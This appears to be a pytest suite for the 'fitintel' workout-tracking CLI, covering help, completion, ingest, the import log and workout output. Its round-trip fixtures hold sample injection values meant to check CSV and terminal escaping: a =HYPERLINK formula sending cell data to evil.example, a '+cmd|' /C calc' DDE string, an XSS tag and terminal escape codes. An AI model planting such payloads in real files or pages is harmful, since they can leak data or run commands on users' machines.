"""The `fitintel` command end to end, through the real binary: help and usage errors, where the
store lives, ingest (summary line, --json record, exit codes, policies, the notify hook, progress
and Ctrl-C), the import log, workouts read back in every format with filters, and `sample`."""
import csv
import hashlib
import io
import json
import math
import os
import re
import signal
import subprocess
from pathlib import Path

import pytest

from conftest import (CLASSIFICATION_FIELDS, EXPORT_COLUMNS, LINK, NUMERIC_FIELDS, WORKOUT_FIELDS, dump_data,
                      expected_workout, export_row, imports_json, ok, query, wait_import_writing,
                      workout_ids, write_export)

SOURCE_ROOT = Path(os.environ.get("FITINTEL_SOURCE_ROOT", Path(__file__).resolve().parents[3]))

# Every option each command documents (and accepts).
COMMAND_OPTIONS = {
    "init": ["--db", "--help"],
    "ingest": ["--policy", "--json", "--notify", "--progress", "--no-progress", "--db", "--help"],
    "imports": ["--json", "--limit", "--db", "--help"],
    "workouts": ["--from", "--to", "--type", "--format", "--limit", "--newest-first", "--units",
                 "--db", "--help"],
    "sample": ["--rows", "--seed", "--output", "-o", "--truth", "--start", "--end", "--era",
               "--first-id", "--units", "--help"],
    "watch": ["--notify", "--policy", "--once", "--settle", "--db", "--help"],
}
EXIT_CODES_HELP = ["0  success", "1  error", "2  usage error", "3  input rejected"]


def usage_error(p, command=None):
    """Exit 2, nothing on stdout, a message and the short usage on stderr."""
    ok(p, 2)
    assert p.stdout == ""
    assert p.stderr.startswith("fitintel: ")
    assert (f"usage: fitintel {command}" if command else "usage: fitintel [--db PATH] COMMAND") in p.stderr
    return p


# ---------------------------------------------------------------- help, version, usage errors

def test_version(run):
    project = re.search(r"version:\s*'([^']+)'", (SOURCE_ROOT / "meson.build").read_text()).group(1)
    p = ok(run("--version"))
    assert p.stdout == f"fitintel {project}\n" and p.stderr == ""


@pytest.mark.parametrize("args", [["--help"], ["-h"], ["help"]])
def test_main_help(run, args):
    p = ok(run(*args))
    assert p.stdout.startswith("usage: fitintel [--db PATH] COMMAND")
    for command in COMMAND_OPTIONS:
        assert re.search(rf"^  {command} +\S", p.stdout, re.M), f"--help does not list {command}"
    for text in ["--db PATH", "--version", "$FITINTEL_DB", "$XDG_DATA_HOME", *EXIT_CODES_HELP]:
        assert text in p.stdout
    assert p.stderr == ""


@pytest.mark.parametrize("command", sorted(COMMAND_OPTIONS))
def test_command_help(run, command):
    p = ok(run(command, "--help"))
    assert p.stdout.startswith(f"usage: fitintel {command}")
    for option in COMMAND_OPTIONS[command]:
        assert re.search(rf"(^|\s|\[){re.escape(option)}\b", p.stdout), \
            f"{command} --help does not mention {option}"
    for text in EXIT_CODES_HELP:
        assert text in p.stdout
    assert "Example" in p.stdout
    # the same text from every way of asking
    assert ok(run(command, "-h")).stdout == p.stdout
    assert ok(run("help", command)).stdout == p.stdout


def completion_options(run):
    """{command: the options its spec accepts}, read from `fitintel completion bash`, which the
    option specs write (the same tables the parser uses)."""
    script = ok(run("completion", "bash")).stdout
    return {m.group(1): m.group(2).split()
            for m in re.finditer(r"^\t([a-z-]+)\)\n\t\topts='([^']*)'", script, re.M)}


@pytest.mark.parametrize("command", sorted(COMMAND_OPTIONS))
def test_help_covers_every_option_the_command_accepts(run, command):
    """Every option in the command's spec is documented in its --help (the spec writes both; this
    guards options left out of the help)."""
    accepted = completion_options(run)[command]
    assert "--help" in accepted and len(accepted) > 1, f"no options found for {command}"
    helptext = ok(run(command, "--help")).stdout
    missing = [o for o in accepted if not re.search(rf"(^|[\s\[,]){re.escape(o)}\b", helptext)]
    assert not missing, f"{command} accepts but does not document: {missing}"


def listed_commands(run):
    """The commands `fitintel --help` lists."""
    text = ok(run("--help")).stdout
    block = text.split("Commands:\n", 1)[1].split("\n\n", 1)[0]
    return [line.split()[0] for line in block.splitlines()]


def test_completion_script_covers_every_command_and_option(run, tmp_path):
    """`fitintel completion bash` is valid bash and knows every command of --help and every
    option each command's --help documents; zsh gets the same through its bash emulation."""
    script = ok(run("completion", "bash")).stdout
    path = tmp_path / "fitintel.bash"
    path.write_text(script)
    check = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    commands = listed_commands(run)
    assert len(commands) > 20 and "completion" in commands
    options = completion_options(run)
    for command in commands:
        assert command in options, f"the completion does not know {command}"
        helptext = ok(run(command, "--help")).stdout
        documented = set(re.findall(r"(?<![\w-])--[a-z][a-z0-9-]*", helptext.split("\nOptions:\n", 1)[1]))
        missing = sorted(documented - set(options[command]))
        assert not missing, f"{command}: --help documents {missing}, the completion lacks them"
    zsh = ok(run("completion", "zsh")).stdout
    assert zsh.startswith("#compdef fitintel\n") and zsh.endswith(script)
    assert "unknown shell 'fish' (bash or zsh)" in usage_error(run("completion", "fish"), "completion").stderr


def complete(script_path, line):
    """COMPREPLY of the completion function for @line (completing its last word), from bash."""
    words = line.split(" ")
    program = (f"source {script_path}\n"
               f"COMP_WORDS=({' '.join(repr(w) for w in words)})\n"
               f"COMP_CWORD={len(words) - 1}\n"
               "_fitintel\n"
               'printf "%s\\n" "${COMPREPLY[@]}"\n')
    p = subprocess.run(["bash", "-c", program], capture_output=True, text=True)
    assert p.returncode == 0, p.stderr
    return sorted(w for w in p.stdout.split("\n") if w)


@pytest.mark.parametrize("line, expected", [
    ("fitintel anom", ["anomalies"]),
    ("fitintel das", ["dashboard"]),
    ("fitintel --db x.db tre", ["trends"]),
    ("fitintel workouts --for", ["--format"]),
    ("fitintel workouts --format c", ["csv"]),
    ("fitintel trends --per w", ["week", "workout"]),
    ("fitintel anomalies --metric heart", ["heart_rate"]),
    ("fitintel workouts --label p", ["pup_walk"]),
    ("fitintel era ", ["add", "compare", "list", "remove"]),
    ("fitintel era compare --js", ["--json"]),
    ("fitintel export --format json w", ["workouts"]),
    ("fitintel help sq", ["sql"]),
    ("fitintel completion ", ["bash", "zsh"]),
    ("fitintel trends --limit", []),
])
def test_completion_in_bash(run, tmp_path, line, expected):
    path = tmp_path / "fitintel.bash"
    path.write_text(ok(run("completion", "bash")).stdout)
    assert complete(path, line) == expected


def test_completion_of_files(run, tmp_path):
    path = tmp_path / "fitintel.bash"
    path.write_text(ok(run("completion", "bash")).stdout)
    d = tmp_path / "files"
    d.mkdir()
    (d / "export.csv").write_text("")
    (d / "inbox").mkdir()
    assert complete(path, f"fitintel ingest --policy skip {d}/exp") == [f"{d}/export.csv"]
    assert complete(path, f"fitintel watch {d}/") == [f"{d}/inbox"]
    assert complete(path, f"fitintel sample -o {d}/ex") == [f"{d}/export.csv"]
    assert complete(path, f"fitintel --db {d}/ex") == [f"{d}/export.csv"]


def test_unknown_command(run):
    p = usage_error(run("frobnicate"))
    assert "unknown command 'frobnicate'" in p.stderr
    usage_error(run("help", "frobnicate"))
    assert "missing command" in usage_error(run()).stderr


def tree(folder):
    return sorted(str(p.relative_to(folder)) for p in Path(folder).rglob("*"))


@pytest.mark.parametrize("command", sorted(COMMAND_OPTIONS))
def test_unknown_option(run, command, tmp_path):
    before = tree(tmp_path)
    p = usage_error(run(command, "--no-such-option", tmp_path / "x", cwd=tmp_path), command)
    assert f"{command}: unknown option '--no-such-option'" in p.stderr
    assert tree(tmp_path) == before, "a usage error must not create anything"


def test_unknown_global_option(run):
    assert "unknown option '--frob'" in usage_error(run("--frob", "init")).stderr


@pytest.mark.parametrize("args, command, message", [
    (["ingest"], "ingest", "missing FILE"),
    (["ingest", "x.csv", "--policy"], "ingest", "needs an argument"),
    (["ingest", "--policy", "lenient", "x.csv"], "ingest", "--policy must be strict or skip, not 'lenient'"),
    (["imports", "--limit", "-1"], "imports", "--limit"),
    (["workouts", "--format", "xml"], "workouts", "table, csv or json"),
    (["workouts", "--units", "furlong"], "workouts", "mi or km"),
    (["sample", "--rows", "10"], "sample", "missing -o FILE"),
    (["sample", "--rows", "0", "-o", "s.csv"], "sample", "--rows"),
    (["sample", "--rows", "ten", "-o", "s.csv"], "sample", "--rows"),
    (["sample", "--seed", "-3", "-o", "s.csv"], "sample", "--seed"),
    (["sample", "--units", "furlong", "-o", "s.csv"], "sample", "mi or km"),
    (["sample", "--start", "2020-01-01", "--end", "2019-01-01", "-o", "s.csv"], "sample", "after"),
    (["watch"], "watch", "missing DIR"),
    (["watch", "a", "b"], "watch", "unexpected argument 'b'"),
    (["watch", "--settle", "soon", "d"], "watch", "--settle"),
    (["init", "extra"], "init", "unexpected argument 'extra'"),
])
def test_bad_arguments_are_usage_errors(run, tmp_path, args, command, message):
    before = tree(tmp_path)
    p = usage_error(run(*args, cwd=tmp_path), command)
    assert message in p.stderr
    assert tree(tmp_path) == before, "a usage error must not create anything"


def test_global_db_option_needs_a_value(run):
    assert "needs an argument" in usage_error(run("--db")).stderr


# ---------------------------------------------------------------- where the store lives

def init_output(p, path):
    ok(p)
    lines = p.stdout.splitlines()
    assert lines[0] == f"store: {path}"
    assert re.fullmatch(r"schema version: (\d+) \(this library writes \1\)", lines[1])
    assert lines[2] == "workouts: 0"
    version = int(lines[1].split()[2])
    assert Path(path).is_file()
    assert query(path, "PRAGMA user_version") == [(version,)]
    tables = {r[0] for r in query(path, "SELECT name FROM sqlite_schema WHERE type='table'")}
    assert {"workouts", "imports"} <= tables


def test_init_with_db_creates_the_folder(run, tmp_path):
    db = tmp_path / "a" / "b" / "fit.db"
    init_output(run("--db", db, "init"), db)
    init_output(run("init", "--db", db), db)   # again, option after the command: same store


def test_init_with_fitintel_db(run, tmp_path, home):
    db = tmp_path / "env" / "fit.db"
    init_output(run("init", env={"FITINTEL_DB": db}), db)
    assert not (home / "xdg-data" / "fitintel").exists()
    other = tmp_path / "explicit.db"
    init_output(run("--db", other, "init", env={"FITINTEL_DB": db}), other)   # --db wins


def test_init_with_xdg_data_home(run, tmp_path):
    xdg = tmp_path / "xdg"
    init_output(run("init", env={"XDG_DATA_HOME": xdg}), xdg / "fitintel" / "fitintel.db")


def test_init_falls_back_to_home(run, home):
    init_output(run("init", env={"XDG_DATA_HOME": None}),
                home / ".local" / "share" / "fitintel" / "fitintel.db")


def test_commands_share_the_default_store(run, tmp_path):
    xdg = tmp_path / "xdg"
    export = tmp_path / "e.csv"
    write_export(export, [export_row(1), export_row(2)])
    ok(run("ingest", export, env={"XDG_DATA_HOME": xdg}))
    assert workout_ids(xdg / "fitintel" / "fitintel.db") == [1, 2]
    p = ok(run("init", env={"XDG_DATA_HOME": xdg}))
    assert "workouts: 2" in p.stdout


def test_unopenable_store_is_an_error(run, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    p = ok(run("--db", blocker / "fit.db", "init"), 1)
    assert p.stderr.startswith("fitintel: ") and str(blocker / "fit.db") in p.stderr
    notdb = tmp_path / "not.db"
    notdb.write_text("this is not an SQLite file" * 100)
    p = ok(run("--db", notdb, "init"), 1)
    assert str(notdb) in p.stderr


# ---------------------------------------------------------------- ingest

@pytest.fixture
def sample_export(run, tmp_path):
    path = tmp_path / "sample.csv"
    ok(run("sample", "--rows", "200", "--seed", "9", "-o", path))
    return path


def test_ingest_summary_then_no_new_rows(run, store, sample_export):
    p = ok(run("--db", store, "ingest", sample_export))
    assert p.stdout == f"{sample_export}: 200 added, 0 duplicates, 0 rejected.\n"
    assert p.stderr == ""
    p = ok(run("--db", store, "ingest", sample_export))
    assert p.stdout == f"{sample_export}: identical to import #1 (same SHA-256): nothing new.\n"
    log = imports_json(run, store)
    assert [r["status"] for r in log] == ["no_new_rows", "success"]
    table = ok(run("--db", store, "imports")).stdout.splitlines()
    assert table[0].split() == ["ID", "FINISHED", "UTC", "STATUS", "READ", "ADDED", "DUP", "REJ", "FILE"]
    assert table[1].split()[0] == "2" and "no_new_rows" in table[1] and table[1].endswith("sample.csv")
    assert table[2].split()[3:7] == ["success", "200", "200", "0"]
    assert len(ok(run("--db", store, "imports", "--limit", "1")).stdout.splitlines()) == 2
    assert query(store, "SELECT count(*) FROM workouts") == [(200,)]


def test_ingest_a_newer_export(run, store, tmp_path):
    old = [export_row(i, "Jan. 5, 2024") for i in range(100, 120)]
    new = [export_row(i, "Feb. 5, 2024") for i in range(120, 130)]
    write_export(tmp_path / "old.csv", old)
    write_export(tmp_path / "new.csv", new[:5] + old + new[5:])
    ok(run("--db", store, "ingest", tmp_path / "old.csv"))
    p = ok(run("--db", store, "ingest", "--json", tmp_path / "new.csv"))
    rec = json.loads(p.stdout)
    assert (rec["status"], rec["rows_read"], rec["rows_added"], rec["rows_duplicate"]) == \
        ("success", 30, 10, 20)
    assert rec["new_ids"] == list(range(120, 130))
    assert workout_ids(store) == list(range(100, 130))


def test_ingest_json_matches_the_log_and_the_store(run, store, sample_export):
    p = ok(run("--db", store, "ingest", "--json", sample_export))
    rec = json.loads(p.stdout)
    data = sample_export.read_bytes()
    assert rec["sha256"] == hashlib.sha256(data).hexdigest()
    assert rec["size"] == len(data)
    assert rec["file"] == str(sample_export)
    assert (rec["status"], rec["policy"], rec["rows_read"], rec["rows_added"],
            rec["rows_duplicate"], rec["rows_rejected"]) == ("success", "strict", 200, 200, 0, 0)
    assert rec["rejects"] == [] and rec["same_as"] is None
    stored = [r[0] for r in query(store, "SELECT id FROM workouts WHERE import_id = ? ORDER BY id",
                                  rec["import_id"])]
    export_ids = sorted(int(r["Link"].rsplit("/", 1)[1])
                        for r in csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert rec["new_ids"] == stored == export_ids
    for stamp in (rec["started_at"], rec["finished_at"]):
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", stamp)
    assert rec["started_at"] <= rec["finished_at"]
    quality = rec["quality"]
    assert quality["units"] == "mi" and set(quality["empty_cells"]) <= set(EXPORT_COLUMNS)
    assert "beyond_bounds" in quality
    row = query(store, "SELECT path, size, sha256, status, rows_read, rows_added, rows_duplicate,"
                       " rows_rejected FROM imports WHERE id = ?", rec["import_id"])
    assert row == [(rec["file"], rec["size"], rec["sha256"], "success", 200, 200, 0, 0)]

    log = imports_json(run, store)
    assert log == [rec], "imports --json must report the same record as ingest --json"

    again = json.loads(ok(run("--db", store, "ingest", "--json", sample_export)).stdout)
    assert (again["status"], again["rows_added"], again["same_as"], again["new_ids"]) == \
        ("no_new_rows", 0, rec["import_id"], [])
    assert again["sha256"] == rec["sha256"]
    assert imports_json(run, store) == [again, rec]


def test_strict_refusal(run, store, tmp_path):
    write_export(tmp_path / "base.csv", [export_row(1)])
    ok(run("--db", store, "ingest", tmp_path / "base.csv"))
    before = dump_data(store)
    bad = tmp_path / "bad.csv"
    lines = write_export(bad, [export_row(2, Notes="two\nlines"),
                               export_row(3, Distance_mi_="three"),
                               export_row(4)])
    assert lines == [2, 4, 5]
    p = ok(run("--db", store, "ingest", bad), 3)
    assert p.stdout == ""
    assert f"{bad}:4: Distance (mi): 'three' is not a number" in p.stderr
    assert "refused" in p.stderr
    assert dump_data(store) == before, "a refused import changed the data"
    rec = imports_json(run, store)[0]
    assert (rec["status"], rec["rows_added"], rec["rows_rejected"]) == ("rejected", 0, 1)
    assert [(j["line"], j["field"], j["reason"], j["text"]) for j in rec["rejects"]] == \
        [(4, "Distance (mi)", "not_a_number", "three")]
    assert "rejected" in ok(run("--db", store, "imports", "--limit", "1")).stdout.splitlines()[1]


@pytest.mark.parametrize("cells, field, message", [
    ({"Workout Date": "Feb. 30, 2025"}, "Workout Date", "Feb. 30, 2025"),
    ({"Workout Date": "Octob 7, 2025"}, "Workout Date", "Octob 7, 2025"),
    ({"Link": LINK}, "Link", ""),
    ({"Workout Time (seconds)": "-30"}, "Workout Time (seconds)", "-30"),
    ({"Avg Pace (min/mi)": "NaN"}, "Avg Pace (min/mi)", "NaN"),
    ({"Notes": "Caf\udce9"}, "Notes", "Caf\\xE9"),         # a Latin-1 byte: not UTF-8
])
def test_each_rejected_row_is_named_on_stderr(run, store, tmp_path, cells, field, message):
    bad = tmp_path / "bad.csv"
    write_export(bad, [export_row(1), export_row(2, cells=cells)])
    p = ok(run("--db", store, "ingest", bad), 3)
    first = p.stderr.splitlines()[0]
    assert first.startswith(f"{bad}:3: {field}: "), p.stderr
    assert message in first
    assert query(store, "SELECT count(*) FROM workouts") == [(0,)]


def test_wrong_number_of_fields_is_named(run, store, tmp_path):
    bad = tmp_path / "bad.csv"
    short = ",".join(['"Oct. 7, 2025"'] * 2 + ["Run"] + ["1"] * 5)
    write_export(bad, [export_row(1), short])
    p = ok(run("--db", store, "ingest", bad), 3)
    assert p.stderr.splitlines()[0].startswith(f"{bad}:3: "), p.stderr


def test_skip_policy_writes_the_good_rows(run, store, tmp_path):
    bad = tmp_path / "bad.csv"
    write_export(bad, [export_row(2, Notes="two\nlines"), export_row(3, Distance_mi_="three"),
                       export_row(4), export_row(5, Workout_Date="Feb. 30, 2025")])
    p = ok(run("--db", store, "ingest", "--policy", "skip", bad))
    assert p.stdout == f"{bad}: 2 added, 0 duplicates, 2 rejected.\n"
    first, second = p.stderr.splitlines()
    assert first == f"{bad}:4: Distance (mi): 'three' is not a number"
    assert second.startswith(f"{bad}:6: Workout Date: ") and "Feb. 30, 2025" in second
    assert workout_ids(store) == [2, 4]
    rec = imports_json(run, store)[0]
    assert (rec["status"], rec["policy"], rec["rows_rejected"]) == ("success", "skip", 2)
    assert [j["line"] for j in rec["rejects"]] == [4, 6]


def test_missing_file(run, store, tmp_path):
    p = ok(run("--db", store, "ingest", tmp_path / "nope.csv"), 1)
    assert p.stdout == ""
    assert str(tmp_path / "nope.csv") in p.stderr and "No such file" in p.stderr


def test_missing_required_column(run, store, tmp_path):
    export = tmp_path / "cols.csv"
    export.write_text('Workout Date,Distance (mi),Notes\n"Oct. 7, 2025",3,x\n')
    p = ok(run("--db", store, "ingest", export), 3)
    assert "missing required column(s) 'Link'" in p.stderr
    assert "the header has 'Workout Date', 'Distance (mi)', 'Notes'" in p.stderr
    assert f"{export}:1" in p.stderr
    assert imports_json(run, store)[0]["status"] == "rejected"


def test_empty_and_header_only_files(run, store, tmp_path):
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    p = ok(run("--db", store, "ingest", empty), 3)
    assert str(empty) in p.stderr and "empty" in p.stderr
    header = tmp_path / "header.csv"
    write_export(header, [])
    rec = json.loads(ok(run("--db", store, "ingest", "--json", header)).stdout)
    assert (rec["status"], rec["rows_read"], rec["rows_added"]) == ("no_new_rows", 0, 0)


def test_several_files_most_serious_exit_wins(run, store, tmp_path):
    good, bad, missing = tmp_path / "good.csv", tmp_path / "bad.csv", tmp_path / "missing.csv"
    write_export(good, [export_row(1)])
    write_export(bad, [export_row(2, Distance_mi_="x")])
    p = ok(run("--db", store, "ingest", "--json", good, bad), 3)
    recs = json.loads(p.stdout)
    assert [(r["file"], r["status"]) for r in recs] == [(str(good), "success"), (str(bad), "rejected")]
    p = ok(run("--db", store, "ingest", "--json", bad, missing, good), 1)
    recs = json.loads(p.stdout)
    assert [r["status"] for r in recs] == ["rejected", "failed", "no_new_rows"]
    assert recs[1]["file"] == str(missing) and recs[1]["import_id"] is None
    assert workout_ids(store) == [1]


def test_notify_hook_receives_the_json(run, store, tmp_path, hook):
    export = tmp_path / "e.csv"
    write_export(export, [export_row(7), export_row(8)])
    p = ok(run("--db", store, "ingest", "--json", "--notify", hook.command, export))
    (raw, status, file), = hook.calls()
    assert raw == p.stdout, "the hook must get exactly the --json record"
    assert json.loads(raw)["new_ids"] == [7, 8]
    assert (status, file) == ("success", str(export))

    bad = tmp_path / "bad.csv"
    write_export(bad, [export_row(9, Distance_mi_="x")])
    p = ok(run("--db", store, "ingest", "--json", "--notify", hook.command, bad), 3)
    raw, status, file = hook.calls()[-1]
    assert json.loads(raw) == json.loads(p.stdout) and json.loads(raw)["status"] == "rejected"
    assert (status, file) == ("rejected", str(bad))


def test_notify_hook_without_json_and_its_failures(run, store, tmp_path, hook):
    export = tmp_path / "e.csv"
    write_export(export, [export_row(7)])
    p = ok(run("--db", store, "ingest", "--notify", hook.command, export))
    assert p.stdout == f"{export}: 1 added, 0 duplicates, 0 rejected.\n"
    (raw, status, _), = hook.calls()
    assert json.loads(raw) == imports_json(run, store)[0]
    # the hook's stdout goes to stderr (never into --json output); a failing hook is reported
    # but does not change the exit code
    again = tmp_path / "again.csv"
    write_export(again, [export_row(8)])
    p = ok(run("--db", store, "ingest", "--json", "--notify", "echo from-the-hook; exit 5", again))
    assert json.loads(p.stdout)["new_ids"] == [8]
    assert "from-the-hook" in p.stderr
    assert "notify hook failed (exit status 5)" in p.stderr


@pytest.fixture(scope="module")
def big_export(tmp_path_factory, fitintel):
    path = tmp_path_factory.mktemp("big") / "big.csv"
    subprocess.run([fitintel, "sample", "--rows", "300000", "--seed", "21", "-o", str(path)],
                   check=True, capture_output=True, timeout=300)
    yield path
    path.unlink()


def test_progress_bar(run, tmp_path, big_export, remove_big_files):
    p = ok(run("--db", tmp_path / "a.db", "ingest", "--progress", big_export))
    assert re.search(r"\d+% \[[#.]+\] +[\d,]+ rows +[\d,]+ rows/s", p.stderr), p.stderr[:500]
    assert p.stderr.endswith("\r"), "the bar is cleared at the end"
    assert p.stdout == f"{big_export}: 300,000 added, 0 duplicates, 0 rejected.\n"
    # not a terminal: no bar unless asked
    assert ok(run("--db", tmp_path / "b.db", "ingest", big_export)).stderr == ""
    assert ok(run("--db", tmp_path / "c.db", "ingest", "--no-progress", big_export)).stderr == ""


def test_ctrl_c_cancels_the_import_cleanly(popen, tmp_path, big_export, remove_big_files):
    db = tmp_path / "store.db"
    proc = popen("--db", db, "ingest", big_export)
    wait_import_writing(proc, big_export, db)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 1, f"exit {proc.returncode}\n{out}\n{err}"
    assert f"{big_export}: interrupted; nothing was imported from it" in err
    assert query(db, "PRAGMA integrity_check") == [("ok",)]
    assert query(db, "SELECT count(*) FROM workouts") == [(0,)]
    assert query(db, "SELECT status FROM imports") in ([], [("failed",)])


# ---------------------------------------------------------------- workouts

FORMULA_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'

ROUND_TRIP_ROWS = [
    export_row(500, "Oct. 7, 2025", Date_Submitted="Oct. 8, 2025",
               Notes='Tempo, then "easy"\nsecond line, with a comma'),
    export_row(501, "Sept. 14, 2025", Notes="Café ☕ 🐕 — naïve, 日本語 \u2028 end",
               Activity_Type="Indoor Run / Jog", Avg_Heart_Rate="152"),
    export_row(502, "March 3, 2025", Notes="<img src=x onerror=alert(1)> </script><b>bold</b> &amp;",
               Activity_Type="Walk", Distance_mi_="1.25", Avg_Pace_min_mi_="29.7253"),
    export_row(503, "June 1, 2025", Notes=FORMULA_NOTE, Source="@attacker"),
    export_row(504, "July 4, 2025", Notes="-5°C, icy; +1 neighbour dog", Source="+cmd|' /C calc'!A0"),
    export_row(505, "Aug. 1, 2024", Date_Submitted="", Calories_Burned_kcal_="", Avg_Heart_Rate="",
               Steps="", Notes="", Source="", Max_Pace_min_mi_="", Max_Speed_mi_h_=""),
    export_row(506, "2024-02-29", Calories_Burned_kcal_="32767", Workout_Time_seconds_="1700000000",
               Avg_Pace_min_mi_="42554500", Steps="4080000000", Distance_mi_="0.01"),
    export_row(507, "31-Jul-2024", Notes="Rain.\r\nChoco refused to go on", Activity_Type="Hike"),
    export_row(508, "Jan. 3, 2019", Notes="   leading and trailing spaces   ", Distance_mi_="13.1094",
               Avg_Pace_min_mi_="8.58333", Workout_Time_seconds_="6751"),
]


@pytest.fixture
def round_trip_store(run, store, tmp_path):
    """ROUND_TRIP_ROWS imported from two files (the second with a BOM and CRLF line ends); returns
    the store and {id: expected JSON object}."""
    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    write_export(a, ROUND_TRIP_ROWS[:5])
    write_export(b, ROUND_TRIP_ROWS[5:], newline="\r\n", bom=True)
    expected = {}
    for path, rows in ((a, ROUND_TRIP_ROWS[:5]), (b, ROUND_TRIP_ROWS[5:])):
        rec = json.loads(ok(run("--db", store, "ingest", "--json", path)).stdout)
        assert rec["rows_added"] == len(rows)
        for r in rows:
            w = expected_workout(r, rec["import_id"])
            expected[w["id"]] = w
    return store, expected


def csv_guard(text):
    """What the CSV output holds for a text cell: a leading ' before = + - @."""
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text


def test_workouts_json_round_trip(run, round_trip_store):
    store, expected = round_trip_store
    p = ok(run("--db", store, "workouts", "--format", "json"))
    data = json.loads(p.stdout)
    assert all(list(w) == WORKOUT_FIELDS + CLASSIFICATION_FIELDS for w in data)
    assert {w["id"]: {k: w[k] for k in WORKOUT_FIELDS} for w in data} == expected
    assert [w["workout_date"] for w in data] == sorted(w["workout_date"] for w in data), "oldest first"
    formula = next(w for w in data if w["id"] == 503)
    assert formula["notes"] == FORMULA_NOTE and formula["source"] == "@attacker", "JSON is verbatim"


def test_workouts_csv_round_trip(run, round_trip_store):
    store, expected = round_trip_store
    p = ok(run("--db", store, "workouts", "--format", "csv"))
    assert p.stdout.endswith("\r\n")
    reader = csv.reader(io.StringIO(p.stdout, newline=""))
    header = next(reader)
    assert header == WORKOUT_FIELDS + CLASSIFICATION_FIELDS
    rows = [dict(zip(header, r)) for r in reader]
    assert len(rows) == len(expected)
    numeric = set(NUMERIC_FIELDS.values())
    for got in rows:
        want = expected[int(got["id"])]
        for field in WORKOUT_FIELDS:
            value, w = got[field], want[field]
            where = (got["id"], field, value, w)
            if field in ("id", "import_id"):
                assert value == str(w), where
            elif w is None:
                assert value == "", where
            elif field in numeric:
                assert float(value) == w, where
            else:
                assert value == csv_guard(w), where
    by_id = {int(r["id"]): r for r in rows}
    assert by_id[503]["notes"] == "'" + FORMULA_NOTE
    assert by_id[503]["source"] == "'@attacker" and by_id[504]["source"].startswith("'+")
    assert by_id[507]["notes"] == "Rain.\r\nChoco refused to go on"


def test_workouts_table(run, round_trip_store):
    store, expected = round_trip_store
    out = ok(run("--db", store, "workouts")).stdout
    lines = out.splitlines()
    assert lines[0].split() == ["DATE", "ID", "TYPE", "DIST", "mi", "TIME", "PACE", "/mi", "STEPS", "LABEL"]
    assert len(lines) == 1 + len(expected)
    row = next(line for line in lines if " 500 " in line)
    assert row.split() == ["2025-10-07", "500", "Run", "3.10", "0:30:00", "9:41", "5000", "real_run"]
    km = next(line for line in ok(run("--db", store, "workouts", "--units", "km")).stdout.splitlines()
              if " 500 " in line)
    assert km.split() == ["2025-10-07", "500", "Run", "4.99", "0:30:00", "6:01", "5000", "real_run"]
    garbage = next(line for line in lines if " 506 " in line)
    assert "4080000000" in garbage and "472222:13:20" in garbage, "garbage values are shown, not cut"
    assert garbage.split()[-1] == "outlier"
    only = ok(run("--db", store, "workouts", "--label", "outlier", "--format", "json")).stdout
    assert [w["id"] for w in json.loads(only)] == [w["id"] for w in json.loads(
        ok(run("--db", store, "workouts", "--format", "json")).stdout) if w["label"] == "outlier"]
    assert run("--db", store, "workouts", "--label", "jog").returncode == 2


def test_workouts_table_neutralises_control_characters(run, store, tmp_path):
    export = tmp_path / "e.csv"
    write_export(export, [export_row(1, Activity_Type="Run\x1b[2J\x1b]0;owned\x07")])
    ok(run("--db", store, "ingest", export))
    out = ok(run("--db", store, "workouts")).stdout
    assert "\x1b" not in out and "\x07" not in out
    assert "Run?[2J?]0;owned?" in out
    assert json.loads(ok(run("--db", store, "workouts", "--format", "json")).stdout)[0][
        "activity_type"] == "Run\x1b[2J\x1b]0;owned\x07"


FILTER_ROWS = [
    export_row(1, "Dec. 31, 2023", Activity_Type="Run"),
    export_row(2, "Jan. 1, 2024", Activity_Type="Walk"),
    export_row(3, "Feb. 5, 2024", Activity_Type="Indoor Run / Jog"),
    export_row(4, "Feb. 5, 2024", Activity_Type="run"),
    export_row(5, "March 5, 2024", Activity_Type="Walk"),
    export_row(6, "Oct. 7, 2025", Activity_Type="Hike"),
]


@pytest.fixture
def filter_store(run, store, tmp_path):
    write_export(tmp_path / "f.csv", FILTER_ROWS)
    ok(run("--db", store, "ingest", tmp_path / "f.csv"))
    return store


@pytest.mark.parametrize("args, want", [
    ([], [1, 2, 3, 4, 5, 6]),
    (["--from", "2024-01-01"], [2, 3, 4, 5, 6]),
    (["--from", "Feb. 5, 2024"], [3, 4, 5, 6]),
    (["--to", "2024-02-05"], [1, 2, 3, 4]),
    (["--to", "5-Feb-2024"], [1, 2, 3, 4]),
    (["--from", "2024-01-01", "--to", "2024-01-01"], [2]),
    (["--type", "Run"], [1, 4]),
    (["--type", "WALK"], [2, 5]),
    (["--type", "indoor run / jog"], [3]),
    (["--type", "Swim"], []),
    (["--from", "2024-01-02", "--to", "March 5, 2024", "--type", "walk"], [5]),
    (["--limit", "2"], [1, 2]),
    (["--newest-first", "--limit", "2"], [6, 5]),
])
def test_workouts_filters(run, filter_store, args, want):
    data = json.loads(ok(run("--db", filter_store, "workouts", "--format", "json", *args)).stdout)
    got = [w["id"] for w in data]
    if "--newest-first" in args:
        assert got == want
    else:
        assert sorted(got) == want
        assert [w["workout_date"] for w in data] == sorted(w["workout_date"] for w in data)
    text = ok(run("--db", filter_store, "workouts", "--format", "csv", *args)).stdout
    assert sorted(int(r["id"]) for r in csv.DictReader(io.StringIO(text, newline=""))) == sorted(want)
    table = ok(run("--db", filter_store, "workouts", *args)).stdout.splitlines()
    assert sorted(int(line.split()[1]) for line in table[1:]) == sorted(want)


@pytest.mark.parametrize("args, message", [
    (["--from", "someday"], "--from needs a date such as 2025-10-07, not 'someday'"),
    (["--to", "2024-02-30"], "--to needs a date such as 2025-10-07, not '2024-02-30'"),
    (["--from", "2024-03-01", "--to", "2024-02-01"], "--from 2024-03-01 is after --to 2024-02-01"),
])
def test_workouts_bad_dates_are_usage_errors(run, filter_store, args, message):
    # `fitintel --help`: exit 2 for a usage error (a bad option value)
    assert message in usage_error(run("--db", filter_store, "workouts", *args), "workouts").stderr


